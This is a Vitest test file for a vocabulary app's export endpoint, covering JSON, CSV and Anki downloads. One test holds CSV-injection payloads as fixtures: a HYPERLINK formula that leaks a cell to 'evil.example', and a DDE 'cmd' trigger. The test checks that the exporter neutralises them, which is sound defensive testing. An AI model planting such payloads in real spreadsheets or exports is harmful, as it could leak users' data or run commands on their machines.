import Papa from 'papaparse';
import { csvRecordsToImportWords, type VocabularyWord } from '@toeic-ace/contract';
import { describe, expect, it } from 'vitest';
import { testAppPerFile } from '../../test/app';
import { addWord, allWords, importOk, newVocabularyUser } from './vocabulary.fixtures';

const now = new Date('2026-07-04T23:30:00.000Z');
const app = testAppPerFile({ app: { clock: () => now } });

const newUser = () => newVocabularyUser(app());

async function seeded() {
  const calls = await newUser();
  await importOk(calls, {
    words: [
      {
        word: 'Quote "this"',
        definition: 'with, commas',
        notes: 'line one\nline two',
        context: '语境 😀',
        mastered: true,
        reviewCount: 3,
        easeIndex: 2.6,
        intervalDays: 6,
        nextReviewDate: '2026-07-10T00:00:00.000Z',
        lastReviewDate: '2026-07-04T00:00:00.000Z',
        createdAt: '2026-06-01T00:00:00.000Z',
      },
      { word: 'plain', createdAt: '2026-06-02T00:00:00.000Z' },
    ],
  });
  return calls;
}

describe('GET /api/vocabulary/export', () => {
  it('downloads every field as JSON, named after the UTC date', async () => {
    const calls = await seeded();
    const other = await newUser();
    await addWord(other, { word: 'not-mine' });
    const res = await calls.exportFile({ format: 'json' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="vocabulary_export_2026-07-04.json"',
    );
    expect(res.json()).toEqual({
      exportDate: now.toISOString(),
      totalWords: 2,
      includeReviewData: true,
      words: await allWords(calls),
    });
  });

  it('leaves the review fields out when asked', async () => {
    const calls = await seeded();
    const res = await calls.exportFile({ format: 'json', includeReviewData: 'false' });
    const { words, includeReviewData } = res.json();
    expect(includeReviewData).toBe(false);
    for (const key of ['reviewCount', 'easeIndex', 'intervalDays', 'nextReviewDate', 'fsrs']) {
      expect(words[0]).not.toHaveProperty(key);
    }
    expect(words[0]).toMatchObject({ word: 'Quote "this"', notes: 'line one\nline two' });
  });

  it('writes the recognised CSV columns in order with RFC 4180 quoting', async () => {
    const calls = await seeded();
    const res = await calls.exportFile({ format: 'csv' });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="vocabulary_export_2026-07-04.csv"',
    );
    const body = res.body;
    expect(body.startsWith('\ufeff')).toBe(true);
    const [header, ...rest] = body.slice(1).split('\r\n');
    expect(header).toBe(
      'word,definition,phonetic,context,notes,mastered,sourceType,language,reviewCount,' +
        'nextReviewDate,easeIndex,intervalDays,definitionSource',
    );
    expect(rest.join('\r\n')).toBe(
      '"Quote ""this""","with, commas",,语境 😀,"line one\nline two",true,import,zh,3,' +
        '2026-07-10T00:00:00.000Z,2.6,6,learner\r\n' +
        'plain,,,,,false,import,zh,0,,2.5,1,',
    );
    const parsed = Papa.parse<Record<string, string>>(body, { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toMatchObject({ word: 'Quote "this"', notes: 'line one\nline two' });
  });

  it('neutralises every cell a spreadsheet would run, and the app reads it back as it was', async () => {
    const calls = await newUser();
    // OWASP's CSV injection triggers: = + - @ tab and carriage return, and a cell that already
    // starts with ' (so that import can always take exactly one ' away).
    const risky = [
      // A word needs two letters, so the formula-shaped words carry some; '-2+3' rides in a note.
      {
        word: '-ab+3',
        notes: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        context: '-2+3',
      },
      { word: '@SUM(A1:A9)', notes: "+cmd|' /C calc'!A0" },
      { word: '=ab+1', notes: '\tleading tab', context: '\rcarriage return first' },
      { word: "'quoted", definition: "'=already prefixed", context: '-' },
      { word: 'safe', definition: 'a - b = c', notes: 'not at the start: =1' },
    ];
    await importOk(calls, { words: risky });
    const res = await calls.exportFile({ format: 'csv', includeReviewData: 'false' });
    const cells = Papa.parse<string[]>(res.body.slice(1), { skipEmptyLines: true }).data.slice(1);
    const columns = ['word', 'definition', 'phonetic', 'context', 'notes'];
    const written = cells.map((row) => Object.fromEntries(columns.map((c, i) => [c, row[i]])));
    expect(written.map((w) => w.word)).toEqual([
      "'-ab+3",
      "'@SUM(A1:A9)",
      "'=ab+1",
      "''quoted",
      'safe',
    ]);
    expect(written[0]!.notes).toBe(`'${risky[0]!.notes}`);
    expect(written[0]!.context).toBe("'-2+3");
    expect(written[1]!.notes).toBe(`'${risky[1]!.notes}`);
    expect(written[2]!.notes).toBe("'\tleading tab");
    expect(written[2]!.context).toBe("'\rcarriage return first");
    expect(written[3]!.definition).toBe("''=already prefixed");
    expect(written[3]!.context).toBe("'-");
    expect(written[4]).toMatchObject({ definition: 'a - b = c', notes: 'not at the start: =1' });
    // No cell of the file starts with a trigger any more.
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The app's own CSV import takes the prefix away again: export → import is lossless.
    const parsed = Papa.parse<Record<string, string>>(res.body.slice(1), { header: true });
    const again = await newUser();
    await importOk(again, { words: csvRecordsToImportWords(parsed.data) });
    const pick = (w: VocabularyWord) => ({
      word: w.word,
      definition: w.definition ?? undefined,
      context: w.context ?? undefined,
      notes: w.notes ?? undefined,
    });
    // Absent and null texts alike: JSON drops undefined.
    const plain = (o: object) => JSON.parse(JSON.stringify(o)) as object;
    expect((await allWords(again)).map(pick).map(plain)).toEqual(risky.map(plain));
  });

  it('drops the review columns from CSV when review data is left out', async () => {
    const calls = await seeded();
    const res = await calls.exportFile({ format: 'csv', includeReviewData: 'false' });
    expect(res.body.slice(1).split('\r\n')[0]).toBe(
      'word,definition,phonetic,context,notes,mastered,sourceType,language,definitionSource',
    );
  });

  it('downloads an .apkg for the anki format', async () => {
    const calls = await seeded();
    const res = await calls.exportFile({ format: 'anki' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="vocabulary_export_2026-07-04.apkg"',
    );
    // A zip archive starts with the local file header signature PK\x03\x04.
    expect([...res.rawPayload.subarray(0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);
  });

  it('runs one export per learner at a time, and the next once it has finished', async () => {
    const calls = await seeded();
    const other = await seeded();
    // Both are Anki packages, built in a worker for a while: whichever takes the lock first
    // still holds it when the other arrives. (A CSV of two words is done in a few milliseconds,
    // so CSV first and Anki after could both pass, as one PostgreSQL run under load showed.)
    const [a, b, theirs] = await Promise.all([
      calls.exportFile({ format: 'anki' }),
      calls.exportFile({ format: 'anki' }),
      other.exportFile({ format: 'anki' }),
    ]);
    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 409]);
    const refused = a.statusCode === 409 ? a : b;
    expect(refused.json().error.code).toBe('EXPORT_IN_PROGRESS');
    // Another learner's export is not held up.
    expect(theirs.statusCode).toBe(200);
    expect((await calls.exportFile({ format: 'json' })).statusCode).toBe(200);
  });

  it('exports an empty notebook', async () => {
    const calls = await newUser();
    expect((await calls.exportFile({ format: 'json' })).json()).toMatchObject({
      totalWords: 0,
      words: [],
    });
    expect((await calls.exportFile({ format: 'csv' })).body.split('\r\n')).toHaveLength(1);
  });

  it('answers 400 for an unknown format and 401 without login', async () => {
    const calls = await newUser();
    expect((await calls.exportFile({ format: 'xlsx' })).statusCode).toBe(400);
    const anonymous = await app().inject({ method: 'GET', url: '/api/vocabulary/export' });
    expect(anonymous.statusCode).toBe(401);
  });
});
